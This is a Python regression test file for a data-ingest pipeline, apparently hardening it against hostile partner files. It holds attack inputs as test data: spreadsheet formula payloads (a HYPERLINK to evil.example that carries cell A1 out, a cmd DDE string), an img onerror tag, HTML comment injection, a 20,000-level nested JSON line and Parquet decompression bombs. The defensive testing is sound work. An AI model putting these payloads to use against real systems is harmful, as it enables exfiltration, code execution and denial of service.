"""Round 9 of testing like an attacker: what landed in round 8 (free-text column names), the
landing zone, failure paths and settings.

Each test failed before its fix (the comment above each section says how).
"""

from __future__ import annotations

import logging
import sqlite3
from datetime import date
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from sqlalchemy import inspect, select, text

from puhui.cli import main
from puhui.config import MAX_FEED_NAME, PartnersConfig, load_config, load_config_file
from puhui.errors import PuhuiError
from puhui.generate.hostile import MP_HEADER, HostileContext, csv_bytes
from puhui.ingest.batches import FileIngestor
from puhui.ingest.feeds import ingest_feed
from puhui.ingest.pseudonymize import pseudonym_key_bytes
from puhui.ingest.quarantine import release_batch
from puhui.ingest.raw_tables import raw_table
from puhui.pipeline import run_ingest_flow
from puhui.privacy import count_identifier_numbers, find_raw_identifiers
from puhui.runtime import open_runtime
from puhui.settings import repo_root
from puhui.validation import BatchValidator
from tests.test_attack_round8_mends import _partners_with

DAY = date(2026, 9, 30)
def _land_payments(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, header: list[str],
                   rows: list[list[str]], name: str = "mobile_payments_1.csv") -> Path:
    folder = tmp_path / "landing" / "mobile_payments" / DAY.isoformat()
    folder.mkdir(parents=True, exist_ok=True)
    monkeypatch.setenv("PUHUI_LANDING", str(tmp_path / "landing"))
    path = folder / name
    path.write_bytes(csv_bytes(header, rows))
    return path


def _ingest_payments(config_dir: Path, monkeypatch: pytest.MonkeyPatch):  # noqa: ANN202
    monkeypatch.setenv("PUHUI_CONFIG_DIR", str(config_dir))
    runtime = open_runtime()
    feed = load_config(runtime.settings.config_dir, PartnersConfig).get("mobile_payments")
    ingestor = FileIngestor(
        runtime, feed, BatchValidator(expectations_dir=runtime.settings.expectations_dir),
        pseudonym_key_bytes(runtime.settings.pseudonym_key))
    return runtime, feed, ingest_feed(runtime, feed, ingestor, DAY).files


# Before: a partner column whose name starts with "_" (allowed since round 8) was taken for a
# check column when a held batch's quarantine copy was read back: release loaded every row
# with that column NULL, the values gone.


@pytest.mark.parametrize("warehouse_url", ["sqlite"], indirect=True)
def test_a_held_batch_with_an_underscore_column_keeps_it_on_release(
    puhui_env: Path, warehouse_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("PUHUI_WAREHOUSE_URL", warehouse_url)
    path = _partners_with(tmp_path, "_note")
    rows = [row + [f"n{i}"] for i, row in
            enumerate(HostileContext(DAY, 1, Path("."), set()).payment_rows(3))]
    rows[1][4] = "-5.00"  # out of range: the batch is held
    _land_payments(tmp_path, monkeypatch, MP_HEADER + ["_note"], rows)
    runtime, feed, (done,) = _ingest_payments(path.parent, monkeypatch)
    assert done.status == "quarantined", done
    released = release_batch(runtime, done.batch_id, "partner confirmed the refund")
    assert released.rows_loaded == 3
    table = raw_table(feed)
    with runtime.engine.connect() as conn:
        notes = conn.execute(select(table.c["_note"]).order_by(table.c.row_number)).scalars()
        assert list(notes) == ["n0", "n1", "n2"]


# Before: a feed name was unbounded, and its batch ids (<feed>-<YYYYMMDD>-<12 hex>) go into
# VARCHAR(40) columns: on PostgreSQL every file of a feed named with 19 or more characters
# failed to load AND to be held (value too long for the ledger row), so no ledger row at all;
# SQLite, which ignores the length, loaded them. Raw column names equal to the raw table's own
# (`row_number`, `Batch_Id`: SQLite's names ignore case) passed `config check` and then broke
# every file of the feed (DuplicateColumnError).


def _renamed_payments(tmp_path: Path, name: str) -> Path:
    path = _partners_with(tmp_path)
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("name: mobile_payments\n", f"name: {name}\n")
                    .replace('"{date}/mobile_payments_*.csv"', '"{date}/*.csv"'), encoding="utf-8")
    return path


@pytest.mark.parametrize("warehouse_url", ["postgres"], indirect=True)
def test_a_feed_named_at_the_length_limit_loads_on_postgres(
    puhui_env: Path, warehouse_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("PUHUI_WAREHOUSE_URL", warehouse_url)
    name = "mobile_payments_b2"
    assert len(name) == MAX_FEED_NAME
    monkeypatch.setenv("PUHUI_CONFIG_DIR", str(_renamed_payments(tmp_path, name).parent))
    folder = tmp_path / "landing" / name / DAY.isoformat()
    folder.mkdir(parents=True)
    monkeypatch.setenv("PUHUI_LANDING", str(tmp_path / "landing"))
    rows = HostileContext(DAY, 1, Path("."), set()).payment_rows(3)
    (folder / "p.csv").write_bytes(csv_bytes(MP_HEADER, rows))
    runtime = open_runtime()
    feed = load_config(runtime.settings.config_dir, PartnersConfig).get(name)
    ingestor = FileIngestor(
        runtime, feed, BatchValidator(expectations_dir=runtime.settings.expectations_dir),
        pseudonym_key_bytes(runtime.settings.pseudonym_key))
    (done,) = ingest_feed(runtime, feed, ingestor, DAY).files
    assert done.status == "accepted", done


def test_a_feed_name_too_long_for_its_batch_ids_is_refused_in_one_line(tmp_path: Path) -> None:
    path = _renamed_payments(tmp_path, "mobile_payments_b23")
    with pytest.raises(PuhuiError, match=r"partners\.yaml: partners\.3\.name: .*longer than 18 "
                                         r"characters \(a batch id") as caught:
        load_config_file(path, PartnersConfig)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("name", ["row_number", "Batch_Id", "_valid_phone_key",
                                  "_after_delivery", "_VALID_x", "_After_Delivery"])
def test_a_column_stored_under_a_name_the_raw_table_keeps_is_refused(
    tmp_path: Path, name: str
) -> None:
    path = _partners_with(tmp_path, name)
    with pytest.raises(PuhuiError, match=r"partners\.yaml: partners\.3: .*a name the raw table "
                                         r"keeps for itself") as caught:
        load_config_file(path, PartnersConfig)
    assert "\n" not in str(caught.value)


# Before: a phone number or national ID sent as a bare number where a number belongs (a
# shifted column: 13787654321 in amount, an 18-digit ID in days_past_due) parsed as a valid
# number. The range check held the file, but the value itself was kept in its quarantine copy
# (Parquet), in GX's stored result (partial_unexpected_list: numbers were not masked) and in
# the Data Docs page rendered from it. Written with separators (138-1234-5678) it was type
# drift, held without a copy; now a bare one is held the same way.

PHONE_IN_NAME, PHONE_AS_NUMBER, ID_AS_NUMBER = "13912345678", "13787654321", "110105194912310021"


def _prefect_database_text() -> str:
    """Every row of every table of Prefect's database (runs, states, artifacts, events, logs)."""
    from prefect.settings import PREFECT_API_DATABASE_CONNECTION_URL

    for name in ("prefect.flow_runs", "prefect.task_runs"):
        for handler in logging.getLogger(name).handlers:
            handler.flush()  # the API handler sends in batches: drain it
    database = (PREFECT_API_DATABASE_CONNECTION_URL.value() or "").split("///", 1)[-1]
    assert Path(database).exists(), database
    parts = []
    with sqlite3.connect(database) as conn:
        tables = conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall()
        for (table,) in tables:
            if table.startswith(("block_schema", "block_type")):
                continue  # Prefect's own catalog (its Twilio block's example numbers)
            parts += [f"{table}: {row}" for row in conn.execute(f'SELECT * FROM "{table}"')]
    return "\n".join(parts)


def _stored_text(home: Path) -> dict[str, str]:
    found = {}
    for path in home.rglob("*"):
        if path.is_file() and path.suffix == ".parquet":
            found[str(path)] = str(pq.read_table(path).to_pylist())
        elif path.is_file() and path.suffix in (".json", ".html"):
            found[str(path)] = path.read_text(encoding="utf-8", errors="replace")
    return found


@pytest.mark.parametrize("warehouse_url", ["sqlite"], indirect=True)
def test_an_identifier_sent_as_a_number_is_held_uncopied_and_stored_nowhere(
    puhui_env: Path, warehouse_url: str, tmp_path: Path, prefect_harness: None,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("PUHUI_WAREHOUSE_URL", warehouse_url)
    clean = HostileContext(DAY, 1, Path("."), set()).payment_rows(3)
    _land_payments(tmp_path, monkeypatch, MP_HEADER, clean,
                   name=f"mobile_payments_{PHONE_IN_NAME}.csv")
    in_amount = HostileContext(DAY, 2, Path("."), set()).payment_rows(3)
    in_amount[1][MP_HEADER.index("amount")] = PHONE_AS_NUMBER
    _land_payments(tmp_path, monkeypatch, MP_HEADER, in_amount, name="mobile_payments_2.csv")
    in_days = HostileContext(DAY, 3, Path("."), set()).payment_rows(3)
    in_days[2][MP_HEADER.index("days_past_due")] = ID_AS_NUMBER
    _land_payments(tmp_path, monkeypatch, MP_HEADER, in_days, name="mobile_payments_3.csv")

    summary = run_ingest_flow(DAY)
    assert summary["statuses"] == {"accepted": 1, "quarantined": 2}, summary
    (feed_summary,) = [f for f in summary["feeds"] if f["partner"] == "mobile_payments"]
    reasons = sorted(f["reason"] for f in feed_summary["files"] if f["status"] == "quarantined")
    assert reasons == [
        f"identifier-shaped number(s) in {column}: a phone number or national ID where a "
        "number belongs" for column in ("amount", "days_past_due")]

    planted = (PHONE_IN_NAME, PHONE_AS_NUMBER, ID_AS_NUMBER)
    stores = {"prefect database": _prefect_database_text()} | _stored_text(puhui_env)
    engine = open_runtime().engine
    with engine.connect() as conn:
        for table in inspect(engine).get_table_names():
            rows = conn.execute(text(f'SELECT * FROM "{table}"')).all()
            stores[f"warehouse {table}"] = "\n".join(str(tuple(r)) for r in rows)
    assert any("data_docs" in name for name in stores)
    for name, blob in stores.items():
        assert not [v for v in planted if v in blob], f"{name}: a planted identifier is stored"
        assert not find_raw_identifiers(blob), name


def test_numbers_that_read_as_identifiers_are_counted_and_others_are_not() -> None:
    import pyarrow as pa

    assert count_identifier_numbers(pa.array([13787654321.0, 12.5, None])) == 1
    assert count_identifier_numbers(pa.array([110105194912310021, 8613787654321, 3])) == 2
    assert count_identifier_numbers(pa.array([1.0e12, 25_000_000.0, 12345678901.5])) == 0
    # A fraction does not hide a phone (it was filtered out with the non-whole numbers).
    assert count_identifier_numbers(pa.array([13787654321.5])) == 1
    assert count_identifier_numbers(pa.array([13787654321.25, -13787654321.5, float("nan"),
                                              float("inf"), 1.0e30, 12.5])) == 2
    assert count_identifier_numbers(pa.array([None, None], pa.float64())) == 0


# Before: a password in MLFLOW_TRACKING_URI was printed on the error line: by puhui's own check
# of the scheme (`postgres://`, which SQLAlchemy and MLflow refuse) and by MLflow's exception
# (`models list`).

_SECRET_URI = "postgres://app:S3cretPw@127.0.0.1:1/mlflow"


@pytest.mark.parametrize("argv", [["run", "ingest"], ["models", "list"]])
def test_a_password_in_a_tracking_uri_is_never_printed(
    puhui_env: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
    argv: list[str],
) -> None:
    monkeypatch.setenv("MLFLOW_TRACKING_URI", _SECRET_URI)
    assert main(argv) == 1
    captured = capsys.readouterr()
    assert "S3cretPw" not in captured.err + captured.out
    assert "postgres://app:***@127.0.0.1:1/mlflow" in captured.err
    assert len(captured.err.strip().splitlines()) == 1, captured.err



# Mended again: a password holding '/' (which SQLAlchemy reads as part of it) was printed
# whole, and one given as a query parameter was not scrubbed at all.
@pytest.mark.parametrize(("text", "scrubbed"), [
    ("postgres://app:ab/cd@db/x", "postgres://app:***@db/x"),
    ("a postgres://u:p/1@h1/x, b mysql://v:p2@h2/y (u@example.org)",
     "a postgres://u:***@h1/x, b mysql://v:***@h2/y (u@example.org)"),
    ("postgresql://db/x?user=app&password=s3cr/t&sslmode=require",
     "postgresql://db/x?user=app&password=***&sslmode=require"),
    ("mssql+pyodbc://db/x?PWD=s3cret#frag", "mssql+pyodbc://db/x?PWD=***#frag"),
    ("http://127.0.0.1:5000/api/2.0 refused", "http://127.0.0.1:5000/api/2.0 refused"),
    ("postgresql://db/x?passwd=s3cret", "postgresql://db/x?passwd=***"),
    ("connect: host=db user=app password=s3cret dbname=x",
     "connect: host=db user=app password=*** dbname=x"),
    ("DRIVER={x};UID=app;PWD=s3cret;DATABASE=y", "DRIVER={x};UID=app;PWD=***;DATABASE=y"),
    ("the column password_reset=1 stays", "the column password_reset=1 stays"),
])
def test_a_url_password_with_a_slash_or_in_the_query_is_scrubbed(text: str, scrubbed: str) -> None:
    from puhui.privacy import scrub_text

    assert scrub_text(text) == scrubbed


# Before: `audit log --format csv` (the export auditors open in a spreadsheet) wrote a reason
# or an actor as given: `--reason "=HYPERLINK(...)"` became a live formula in the auditor's
# sheet. The JSON output keeps the text as it is.

_FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0",
             "-2+3", "@SUM(A1:A9)"]


@pytest.mark.parametrize("warehouse_url", ["sqlite"], indirect=True)
def test_the_audit_csv_export_holds_no_formula(
    puhui_env: Path, warehouse_url: str, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    import csv
    import io
    import json

    from puhui.audit import AuditWriter
    from puhui.warehouse.engine import get_engine
    from tests.conftest import TEST_AUDIT_KEY

    monkeypatch.setenv("PUHUI_WAREHOUSE_URL", warehouse_url)
    engine = get_engine(warehouse_url)
    for formula in _FORMULAS:
        writer = AuditWriter(actor=formula, config_hash="cfg", code_version="abc",
                             key=TEST_AUDIT_KEY.encode())
        writer.record(engine, "quarantine.released", "mobile_payments-20260930-aaaa",
                      {"reason": formula})
    capsys.readouterr()
    assert main(["audit", "log", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(r["actor"], r["reason"]) for r in rows] == [("'" + f, "'" + f) for f in _FORMULAS]
    assert main(["audit", "log", "--json"]) == 0
    assert [e["actor"] for e in json.loads(capsys.readouterr().out)] == _FORMULAS


# Tried and sound (kept as a guard): a delivery FOLDER that is a symlink out of the zone
# (mobile_payments/2026-09-30 -> another partner's or any folder) is not followed: the listing
# does not descend into it, nothing is read, and the delivery is reported late.


@pytest.mark.parametrize("warehouse_url", ["sqlite"], indirect=True)
def test_a_delivery_folder_linked_out_of_the_zone_is_not_read_and_reported_late(
    puhui_env: Path, warehouse_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("PUHUI_WAREHOUSE_URL", warehouse_url)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    rows = HostileContext(DAY, 1, Path("."), set()).payment_rows(3)
    (elsewhere / "mobile_payments_1.csv").write_bytes(csv_bytes(MP_HEADER, rows))
    feed_root = tmp_path / "landing" / "mobile_payments"
    feed_root.mkdir(parents=True)
    (feed_root / DAY.isoformat()).symlink_to(elsewhere, target_is_directory=True)
    monkeypatch.setenv("PUHUI_LANDING", str(tmp_path / "landing"))
    runtime = open_runtime()
    feed = load_config(runtime.settings.config_dir, PartnersConfig).get("mobile_payments")
    ingestor = FileIngestor(
        runtime, feed, BatchValidator(expectations_dir=runtime.settings.expectations_dir),
        pseudonym_key_bytes(runtime.settings.pseudonym_key))
    result = ingest_feed(runtime, feed, ingestor, DAY)
    assert result.files == [] and result.late


# Before: Parquet was read a million rows at a time whatever their width: a 1.3 MB file of
# 200,000 zstd-compressed 2 KB strings held 400 MB once decompressed and the read peaked near
# 1 GB of memory (a few MB of such a file is an out-of-memory kill, which stops every file and
# every later run). Batches are now sized from the footer's decompressed sizes, and a row wider
# than the read block is held.


def _wide_parquet(path: Path, rows: int, width: int, group_rows: int | None = None,
                  **options: int) -> Path:
    import pyarrow as pa

    values = pa.array([f"{i:08d}" + "a" * width for i in range(rows)])
    pq.write_table(pa.table({"event_id": values}), path, compression="zstd",
                   use_dictionary=False, row_group_size=group_rows, **options)
    return path


def test_parquet_is_read_in_batches_bounded_by_their_decompressed_size(tmp_path: Path) -> None:
    from puhui.ingest.reading import UnreadableFile, iter_file_chunks, open_landed_file

    feed = load_config(repo_root() / "configs", PartnersConfig).get("product_events")
    block = 1 << 20
    # In row groups of 2 MB: a column chunk over 4 blocks decompressed is held (round 10).
    # In pages of ~256 KB: Arrow's default cuts one page per 1,024 values, here each of the
    # row group's 1.9 MB, and a page over the block is held since round 12.
    wide = open_landed_file(str(_wide_parquet(tmp_path / "wide.parquet", 4_000, 4_000, 500,
                                              write_batch_size=64, data_page_size=256 << 10)))
    assert wide.size < block, "a small file..."
    chunks = list(iter_file_chunks(wide, feed, ["event_id"], block_bytes=block))
    assert sum(c.num_rows for c in chunks) == 4_000  # ...of 16 MB decompressed
    assert max(c.nbytes for c in chunks) <= 2 * block, [c.nbytes for c in chunks]

    one_row = open_landed_file(str(_wide_parquet(tmp_path / "row.parquet", 1, 3 * block)))
    with pytest.raises(UnreadableFile, match=r"^a value in event_id of 3\.0 MB or more once "
                                             r"decompressed: over the 1 MB read block$"):
        list(iter_file_chunks(one_row, feed, ["event_id"], block_bytes=block))


@pytest.mark.parametrize("arrow_schema", [False, True], ids=["other-writer", "arrow-writer"])
def test_parquet_batches_are_sized_from_decoded_rows_not_the_dictionary_encoded_footer(
    tmp_path: Path, arrow_schema: bool,
) -> None:
    """Mended again: the footer's sizes are after dictionary encoding, so 100,000 copies of
    one 400-byte string (a few KB on disk and in the footer) were read as a single batch of
    40 MB decoded, and a million of them as 400 MB."""
    import pyarrow as pa

    from puhui.ingest.reading import iter_file_chunks, open_landed_file

    feed = load_config(repo_root() / "configs", PartnersConfig).get("product_events")
    block = 1 << 20
    rows = 100_000
    same = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array(["a" * 400]))
    path = tmp_path / "same.parquet"
    # Without Arrow's schema in the footer the column reads back as plain strings; with it,
    # as a dictionary column that widens when the chunk is cast to text.
    pq.write_table(pa.table({"event_id": same}), path, compression="zstd",
                   store_schema=arrow_schema)
    footer = pq.ParquetFile(path).metadata.row_group(0).total_byte_size
    assert footer < block // 10, "the footer understates the decoded size..."
    sizes = [c.column(0).cast(pa.string()).nbytes
             for c in iter_file_chunks(open_landed_file(str(path)), feed, ["event_id"],
                                       block_bytes=block)]
    assert sum(sizes) > 30 * block, "...of 40 MB decoded"
    assert max(sizes) <= 2 * block, sizes


# Before: a JSON line nested 20,000 levels deep ({"order_id": [[[[...]]]]}, 40 KB) crashed the
# process in Arrow's JSON parser (SIGSEGV): no exception to hold the file with, no ledger row,
# the other files of the run never read, and every later run crashed on the same file.
# Mended again: a line Python's parser refused (invalid UTF-8 in a string: only a file's first
# line is decoded up front) was passed to Arrow unmeasured, and still crashed it. The ingest
# runs in a child process, so that a crash fails this test instead of killing pytest.


def _ingest_orders_in_child() -> None:
    import json


    runtime = open_runtime()
    feed = load_config(runtime.settings.config_dir, PartnersConfig).get("ecommerce_orders")
    ingestor = FileIngestor(
        runtime, feed, BatchValidator(expectations_dir=runtime.settings.expectations_dir),
        pseudonym_key_bytes(runtime.settings.pseudonym_key))
    outcomes = ingest_feed(runtime, feed, ingestor, DAY).files
    print(json.dumps([[o.status, o.reason] for o in outcomes]))


@pytest.mark.parametrize("warehouse_url", ["sqlite"], indirect=True)
def test_a_json_line_nested_thousands_deep_is_held_and_the_others_load(
    puhui_env: Path, warehouse_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    import json
    import subprocess
    import sys

    from puhui.ingest.reading import MAX_JSON_NESTING

    monkeypatch.setenv("PUHUI_WAREHOUSE_URL", warehouse_url)
    folder = tmp_path / "landing" / "ecommerce_orders" / DAY.isoformat()
    folder.mkdir(parents=True)
    monkeypatch.setenv("PUHUI_LANDING", str(tmp_path / "landing"))
    context = HostileContext(DAY, 1, Path("."), set())
    lines = [json.dumps(context.order(i), ensure_ascii=False).encode() for i in range(3)]
    nested = b"[" * 20_000 + b"]" * 20_000
    deep = b'{"order_id": ' + nested + b"}"
    not_utf8 = b'{"order_id": "\xff", "amount": ' + nested + b"}"
    (folder / "ecommerce_orders_1.jsonl").write_bytes(b"\n".join([*lines, deep]) + b"\n")
    (folder / "ecommerce_orders_2.jsonl").write_bytes(b"\n".join([deep, *lines]) + b"\n")
    (folder / "ecommerce_orders_3.jsonl").write_bytes(
        b"\n".join([lines[0], not_utf8, *lines[1:]]) + b"\n")
    later = [json.dumps(context.order(i), ensure_ascii=False).encode() for i in range(3, 6)]
    (folder / "ecommerce_orders_4.jsonl").write_bytes(b"\n".join(later) + b"\n")
    child = subprocess.run(
        [sys.executable, "-c",
         "from tests.test_attack_round9 import _ingest_orders_in_child as f; f()"],
        cwd=repo_root(), capture_output=True, text=True, timeout=600, check=False)
    assert child.returncode == 0, (child.returncode, child.stderr[-2000:])
    outcomes = json.loads(child.stdout.strip().splitlines()[-1])
    assert [status for status, _ in outcomes] == [
        "quarantined", "quarantined", "quarantined", "accepted"], outcomes
    for _, reason in outcomes[:3]:
        assert reason == (f"a JSON line nested more than {MAX_JSON_NESTING} levels deep "
                          "(the contract's columns are flat)"), reason


def test_the_nesting_check_skips_short_lines_and_never_a_line_over_the_limit() -> None:
    """Lines no longer than the limit are skipped unread (brackets in a note sent every line
    of a block through two counts); a line one level over it is the shortest that can be too
    deep, and it is held wherever it sits in the block."""
    from puhui.ingest.reading import MAX_JSON_NESTING, UnreadableFile, _check_nesting

    flat = b'{"order_id": "O1", "note": "[urgent] [[call]] {back}"}'
    assert _check_nesting(b"\n".join([flat] * 10_000) + b"\n") is None
    at_limit = b"[" * MAX_JSON_NESTING + b"]" * MAX_JSON_NESTING
    assert _check_nesting(b"\n".join([flat, at_limit, flat]) + b"\n") is None
    over = b"[" * (MAX_JSON_NESTING + 1) + b"]" * (MAX_JSON_NESTING + 1)
    for lines in ([over], [flat, over], [over, flat], [flat, b"{" + over[:-1] + b"}", flat],
                  [flat, b" " + over + b"\r", flat]):
        with pytest.raises(UnreadableFile, match="nested more than"):
            _check_nesting(b"\n".join(lines) + b"\n")


# Before: GX's Data Docs templates print an expectation's arguments and unexpected values
# raw. A value's masked shape keeps its punctuation: a partner's `<!-- x` became `<!-- a`, an
# HTML comment that hid the rest of the page (every later failed expectation) from whoever
# reviewed it; a column name (free text since round 8) could carry a whole tag.


def test_data_docs_pages_print_values_and_column_names_as_text() -> None:
    import copy

    from puhui.data_docs import _WARM_UP_RESULT, render_validation_page
    from puhui.privacy import mask_shape

    result = copy.deepcopy(_WARM_UP_RESULT)
    shape = mask_shape("<!-- x")
    result["results"][1]["expectation_config"]["kwargs"]["column"] = "<img src=x onerror=1>"
    result["results"][1]["result"] |= {"partial_unexpected_list": [shape],
                                       "partial_unexpected_counts": [{"value": shape,
                                                                      "count": 1}]}
    page = render_validation_page(result)
    assert "<!--" not in page.replace("<!--[if", "") and "<img src=x" not in page
    assert "&lt;!-- a" in page and "&lt;img src=x onerror=1&gt;" in page
